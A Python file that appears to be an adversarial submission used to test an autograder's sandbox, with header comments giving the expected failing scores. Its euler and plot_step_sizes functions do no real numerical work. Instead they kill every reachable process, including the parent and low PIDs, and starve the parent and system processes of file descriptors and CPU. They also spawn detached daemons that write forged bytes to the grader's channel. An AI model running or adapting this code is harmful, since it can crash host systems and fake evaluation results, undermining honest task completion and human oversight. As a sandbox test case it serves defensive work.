# Attack: signals its parent, its group, the first 40 pids and everything else, again from daemons of sessions of their own.
# Expect: euler_stability.euler 0 points, failed
# Expect: euler_stability.plot_step_sizes 0 points, failed or crashed or blocked
# Shows: nothing
import contextlib
import os
import resource
import signal

import numpy as np


def kill_all():
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        for target in (-1, 0, os.getppid(), *range(1, 40), -1):
            with contextlib.suppress(OSError):
                os.kill(target, number)
        with contextlib.suppress(OSError):
            os.killpg(0, number)
    for target in (os.getppid(), 1, 2, 3):
        with contextlib.suppress(OSError, ValueError):
            resource.prlimit(target, resource.RLIMIT_NOFILE, (0, 0))
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, target, 19)
        with contextlib.suppress(OSError):
            os.sched_setaffinity(target, {0})


def daemon():
    """A process that no longer belongs to this one, that kills, and talks to the grader in this one's place."""
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                kill_all()
                os.write(3, b"\0" * 8)
                while True:
                    signal.pause()
            os._exit(0)


def euler(f, y0, t):
    kill_all()
    return np.ones((len(t), len(y0)))


def plot_step_sizes(ax, hs):
    for _ in range(4):
        daemon()
    kill_all()
    ax.set_yscale("log")
